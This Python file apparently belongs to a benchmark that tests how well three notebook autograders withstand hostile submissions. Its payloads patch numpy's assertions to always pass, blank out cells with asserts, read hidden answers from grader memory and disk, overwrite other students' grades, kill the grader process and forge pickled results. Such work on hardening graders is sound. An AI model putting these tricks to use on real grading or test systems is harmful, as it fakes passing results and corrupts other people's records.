"""The attacks: one row each, what it is, what its honest code earns, and the notebook it hands in.

Every attack is one file that is the same for all three graders, so it tries the ways into each of them. It
knows where the course lies (`@ARENA@`, a temporary folder made for this one attack) and touches nothing else.
"""

from dataclasses import dataclass

from benchmarks.hostile.assignment import FULL, filled, right

ZERO = {"twice": "def twice(x):\n    return 0 * x", "norm": "def norm(x):\n    return 0.0"}
RIGHT = {"twice": right("twice"), "norm": right("norm")}


@dataclass(frozen=True)
class Attack:
    """A row: a short name, what is tried, the points that honest code in it earns, the file."""

    name: str
    tries: str
    deserves: float
    data: bytes

    def at(self, arena: str, outside: int) -> bytes:
        """Return the file for one arena; `outside` is a process that must not be touched."""
        return self.data.replace(b"@ARENA@", arena.encode()).replace(b"@OUTSIDE@", str(outside).encode())


PATCHED = """
import builtins
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *args, **kwargs: None)
np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
builtins.abs = np.abs = lambda value: 0.0
"""

EQUAL = """
class Equal:
    __hash__ = None
    def same(self, *args, **kwargs): return self
    def yes(self, *args, **kwargs): return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = yes
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __abs__ = same
    def __float__(self): return 0.0
"""

SUBCLASS = """
class Agreeable(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast_shapes(*(np.shape(np.asarray(one)) for one in inputs))
        if ufunc in (np.subtract, np.absolute):
            return np.zeros(shape).view(Agreeable)
        return np.ones(shape, dtype=bool)
    def __array_function__(self, function, types, args, kwargs):
        return np.True_
    def __float__(self): return 0.0
    def __lt__(self, other): return True
"""

EXITS = {"twice": "def twice(x):\n    import os\n    os._exit(0)", "norm": ZERO["norm"]}

REDEFINED = """
class Anything:
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter(())
np = Anything()
abs = lambda value: 0.0
try:
    from otter.test_files.exception_test import test_case
    test_case.call_func = lambda self, environment: None
except ImportError:
    pass
"""

SHELL = """
shell = get_ipython()
def emptied(lines):
    return ["\\n"] if any("assert" in line for line in lines) else lines
try:
    shell.input_transformers_post.append(emptied)
except Exception:
    pass
"""

REPLACED = "get_ipython().run_cell = lambda *args, **kwargs: None"

# Words are handed out backwards, so that a page that shows hidden text of its own accord is not counted.
FOUND = """
import re
PATTERN = re.compile("CANARY_[a-z]+_[0-9a-f]{16}")
def handed_out(texts):
    words = sorted({word for text in texts for word in PATTERN.findall(text)})
    loot = " ".join(word[::-1] for word in words)
    print(loot)
    return loot
"""

MEMORY = (
    FOUND
    + """
import gc, linecache, os, sys
def seen():
    frame = sys._getframe()
    while frame:
        yield "".join(linecache.getlines(frame.f_code.co_filename))
        yield from (str(value) for value in list(frame.f_locals.values()) if type(value) is str)
        yield from map(str, frame.f_globals.get("In") or ())
        frame = frame.f_back
    for thing in gc.get_objects():
        parts = list(thing.values()) if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
        yield from (part for part in parts if type(part) is str and "CANARY_" in part)
    for descriptor in range(3, 64):
        try:
            yield os.pread(descriptor, 10**6, 0).decode(errors="replace")
        except OSError:
            pass
"""
)

DISK = (
    FOUND
    + """
import os, pathlib
def seen():
    tests = [pathlib.Path(place) for place in ("tests", ".", "/proc/self/cwd/tests")]
    for root in [pathlib.Path("@ARENA@"), *tests]:
        for folder, _, names in os.walk(root):
            for name in names:
                if "site-packages" not in folder and not name.startswith("eve"):
                    try:
                        yield pathlib.Path(folder, name).read_text(errors="replace")[:10**6]
                    except OSError:
                        pass
"""
)
LOOTING = {
    "twice": "def twice(x):\n    raise RuntimeError(handed_out(seen()))",
    "norm": ZERO["norm"],
}

WRITES = """
import json, os, pathlib, sqlite3
def spoil(path):
    os.chmod(path, 0o644)
    if path.suffix == ".ipynb" and "zoe" in str(path):
        path.write_text("{}")
    if path.suffix == ".db":
        with sqlite3.connect(path, timeout=2) as base:
            base.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    if path.suffix == ".json" and "ada" in str(path):
        path.write_text(path.read_text().replace('score": ', 'score": -'))
try:
    pathlib.Path("@ARENA@", "planted").write_text("eve was here")
except OSError:
    pass
for folder, _, names in os.walk("@ARENA@"):
    for name in names:
        try:
            spoil(pathlib.Path(folder, name))
        except Exception:
            pass
"""

LOOPS = {
    "twice": """def twice(x):
    while True:
        try:
            while True: pass
        except BaseException:
            pass""",
    "norm": ZERO["norm"],
}

HOARDS = {
    "twice": """def twice(x):
    hoard = []
    while len(hoard) < 56:
        hoard.append(np.ones(2**23))  # 64 MiB
    import time
    time.sleep(1)
    return 0 * x""",
    "norm": ZERO["norm"],
}

CHILDREN = """
import os, subprocess, sys, time
nowhere = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
for _ in range(3):
    try:
        subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True, **nowhere
        )
    except Exception:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
"""

KILLS = """
import os, signal
if os.getppid() not in (0, 1, @OUTSIDE@):
    os.kill(os.getppid(), signal.SIGKILL)
"""

FORGES = """
import os, pickle
class Planted:
    def __reduce__(self): return os.mkdir, ("@ARENA@/planted-by-the-grader",)
dump = pickle.dump
def forged(results, file, *args, **kwargs):
    for test in getattr(results, "results", {}).values():
        for case in test.test_case_results:
            case.passed = True
        results.surprise = Planted()
    return dump(results, file, *args, **kwargs)
pickle.dump = forged
def replies():
    try:
        from autograder.channel import Channel
        from autograder.protocol import Reply
        Channel(3, 4, 0).send(Reply([True]))
    except ImportError:
        pass
"""
FORGED = {
    "twice": "def twice(x):\n    replies()\n    return True",
    "norm": "def norm(x):\n    replies()\n    return True",
}

FLOODS = {
    "twice": """class Flood(Exception):
    def __str__(self): return "x" * 12_000_000
    __repr__ = __str__
def twice(x):
    print(Flood())
    raise Flood()""",
    "norm": ZERO["norm"],
}

NOISY = {
    "twice": "def twice(x):\n    import sys\n    print('working', file=sys.stderr)\n    return 2 * x",
    "norm": "import warnings\ndef norm(x):\n    warnings.warn('slow')\n    return float(np.linalg.norm(x))",
}


def cut_off() -> bytes:
    """Return a right notebook that ends in the middle of its last function."""
    data = filled("", **RIGHT)
    return data[: data.index(b"def norm") + 20]


def twice_over() -> bytes:
    """Return a right notebook with every cell twice, ids and all."""
    data = filled("", **RIGHT)
    start, end = data.index(b'"cells": [') + len(b'"cells": ['), data.rindex(b"]")
    return data[:end].rstrip() + b"," + data[start:]


def _row(name: str, tries: str, data: bytes, deserves: float = 0.0) -> Attack:
    return Attack(name, tries, deserves, data)


def attacks() -> tuple[Attack, ...]:
    """Return the rows; the first is the control."""
    agreeable = {
        name: f"def {name}(x):\n    return np.zeros(np.shape(x)).view(Agreeable)"
        for name in ("twice", "norm")
    }
    equal = {name: f"def {name}(x):\n    return Equal()" for name in ("twice", "norm")}
    return (
        _row("honest work", "nothing: the control, right answers", filled("", **RIGHT), FULL),
        _row("patched numpy", "`np.testing`, `np.allclose` and `abs` always agree", filled(PATCHED, **ZERO)),
        _row("equal to everything", "objects whose every comparison is true", filled(EQUAL, **equal)),
        _row("array subclass", "an `ndarray` that answers numpy's questions", filled(SUBCLASS, **agreeable)),
        _row("early exit", "`os._exit(0)` in a function", filled("", **EXITS)),
        _row("redefined names", "`np`, `abs` and otter's check in the namespace", filled(REDEFINED, **ZERO)),
        _row("patched IPython", "later cells with `assert` become empty", filled(SHELL, **ZERO)),
        _row("replaced `run_cell`", "it does nothing and returns None", filled(REPLACED, **ZERO)),
        _row("memory read", "frames, sources, `In`, gc, open files", filled(MEMORY, **LOOTING)),
        _row("disk read", "every file of the course folder", filled(DISK, **LOOTING)),
        _row("disk write", "the others' files and grades", filled(WRITES, **ZERO)),
        _row("endless loop", "a function that swallows every interrupt", filled("", **LOOPS)),
        _row("memory flood", "takes 3.5 GiB", filled("", **HOARDS)),
        _row("children left", "three processes in sessions of their own", filled(CHILDREN, **ZERO)),
        _row("killed grader", "SIGKILL to the parent process", filled(KILLS, **ZERO)),
        _row("forged results", "otter's pickle, our replies", filled(FORGES, **FORGED)),
        _row("output flood", "an exception that prints as 12 MB", filled("", **FLOODS)),
        _row("cut-off file", "half a notebook; one function is whole", cut_off(), 2.0),
        _row("cells twice", "right answers, every cell and id doubled", twice_over(), FULL),
        _row("noise", "right answers, a warning, a line on stderr", filled("", **NOISY), FULL),
    )
